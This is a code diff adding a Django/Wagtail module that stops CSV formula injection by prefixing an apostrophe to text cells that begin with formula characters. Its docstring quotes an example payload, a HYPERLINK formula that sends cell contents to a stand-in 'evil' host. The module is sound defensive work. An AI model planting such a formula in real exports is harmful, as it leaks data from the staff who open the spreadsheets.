@@ -1,0 +1,49 @@
+"""Spreadsheets that are safe to open (OWASP "CSV injection").
+
+A submitter can type text such as ``=HYPERLINK("http://evil/?"&A1,"详情")`` into a case. If a
+cell begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
+programs skip before they look), Excel, WPS and LibreOffice may run it as a formula when staff
+open the export. :func:`neutralise` is the one place that prevents this: such text gets a
+leading apostrophe, which makes it plain text in every spreadsheet program. Every exporter
+uses it:
+
+- Wagtail listings with ``list_export`` (CSV and XLSX): their index view mixes in
+  :class:`SafeSpreadsheetExportMixin`.
+- The streamed ledgers: ``submissions.xlsx_stream`` neutralises every text cell it writes.
+- Other openpyxl workbooks: rows are appended through :func:`safe_row`.
+
+Only text changes. Numbers, dates and booleans are written as they are, so a negative amount
+stays a number and a date stays a date. Each value is handled on its own, as it is written, so
+an export still streams.
+"""
+
+from django.utils.functional import Promise
+
+# The characters a spreadsheet may read as the start of a formula (OWASP's list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value):
+    """value unchanged, unless it is text that begins like a formula: then "'" + text."""
+    if isinstance(value, Promise):  # a lazy translation is text too
+        value = str(value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def safe_row(values):
+    """A row for openpyxl's ``sheet.append()`` with every text cell neutralised."""
+    return [neutralise(value) for value in values]
+
+
+class SafeSpreadsheetExportMixin:
+    """Mix into a Wagtail IndexView (before it) whose viewset has ``list_export``: every
+    exported cell, CSV and XLSX, headings included, passes through :func:`neutralise` after
+    Wagtail's own preprocessing (which keeps numbers and dates as they are)."""
+
+    def preprocess_field_value(self, field, value, export_format):
+        return neutralise(super().preprocess_field_value(field, value, export_format))
+
+    def get_heading(self, queryset, field):
+        return neutralise(super().get_heading(queryset, field))
